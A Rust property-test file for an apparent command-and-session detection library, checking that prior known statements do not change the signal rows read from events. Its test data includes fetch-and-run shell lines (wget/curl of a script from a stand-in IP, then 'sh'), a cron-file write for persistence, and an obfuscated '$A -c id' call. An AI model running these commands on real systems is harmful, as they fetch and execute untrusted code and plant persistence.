//! What is known before an event is read changes nothing of what is read: statements that were met, a session that is its own script.

#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]

use std::sync::Arc;

use proptest::prelude::*;
use ringtrue_core::task::EmailOptions;
use ringtrue_core::{Event, Field, Kind, Limits, Trust, Value};
use ringtrue_intake::command::{self, Command, KnownStatements};
use ringtrue_intake::reader::{Extent, Known};
use ringtrue_intake::session::{self, Session};
use ringtrue_intake::table::TableEncoder;
use ringtrue_intake::text::TextParameters;
use ringtrue_intake::{ReaderSpec, Reading, SignalReader};

fn reader(kind: Kind) -> SignalReader {
    SignalReader::new(ReaderSpec {
        kind,
        derived: Vec::new(),
        table: TableEncoder {
            columns: Vec::new(),
        },
        foreign: None,
        habits: None,
        email: EmailOptions::default(),
        text: TextParameters::default(),
        limits: Limits::default(),
    })
    .unwrap()
}

fn event(kind: Kind, text: &str) -> Event {
    Event {
        kind,
        time: None,
        label_known: None,
        label: None,
        source: None,
        trust: Trust::default(),
        family: None,
        group: None,
        fields: vec![Field {
            name: Arc::from(kind.evidence().unwrap_or_default()),
            value: Value::Text(Arc::from(text)),
        }],
    }
}

/// Returns the bits of a row with tokens and entity.
fn parts(reading: &Reading) -> (Vec<u64>, &[u32], u32) {
    let row = reading.row();
    let bits = (0..row.len()).map(|signal| row.get(signal).to_bits());
    (bits.collect(), &reading.tokens, reading.entity)
}

/// Commands that are alike, and that mean other things as a line than as a script.
const COMMANDS: [&str; 8] = [
    "cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh",
    "wget http://192.0.2.1/x.sh || curl http://192.0.2.1/x.sh",
    "cd /tmp",
    "[\"sh\", \"-c\", \"id; ls\"]",
    "echo 'a\nb' > /etc/cron.d/x",
    "cat <<E\na\nE",
    "A=sh",
    "$A -c id",
];

fn sessions() -> impl Strategy<Value = String> {
    let commands = proptest::collection::vec(proptest::sample::select(&COMMANDS[..]), 0..5);
    (commands, any::<bool>()).prop_map(|(commands, is_list)| {
        if is_list {
            serde_json::to_string(&commands).unwrap()
        } else {
            commands.join("\n")
        }
    })
}

proptest! {
    #[test]
    fn known_statements_change_nothing(texts in proptest::collection::vec(sessions(), 1..8)) {
        for kind in [Kind::Session, Kind::Command] {
            let reader = reader(kind);
            let mut statements = KnownStatements::default();
            let [mut fresh, mut knowing] = [Reading::default(), Reading::default()];
            for text in &texts {
                let event = event(kind, text);
                reader.read(&event, &mut fresh);
                let known = Known { mail: None, statements: Some(&mut statements) };
                reader.read_knowing((&event, known), Extent::Whole, &mut knowing);
                prop_assert_eq!(parts(&fresh), parts(&knowing), "{}", text);
            }
        }
    }

    #[test]
    fn a_session_is_read_as_its_script(text in sessions()) {
        let mut reading = Reading::default();
        reader(Kind::Session).read(&event(Kind::Session, &text), &mut reading);
        let (session, _) = Session::parse(&text, &Limits::default());
        let (script, _) = Command::parse(&session.script(), &Limits::default());
        let mut row = Vec::new();
        command::signals_of(&script, &mut row);
        let bits: Vec<u64> = row.iter().map(|value| f64::from(*value).to_bits()).collect();
        let order = session::schema().signals.len();
        prop_assert_eq!(&parts(&reading).0[order..], &bits[..]);
        prop_assert_eq!(reading.entity, script.entity());
    }
}
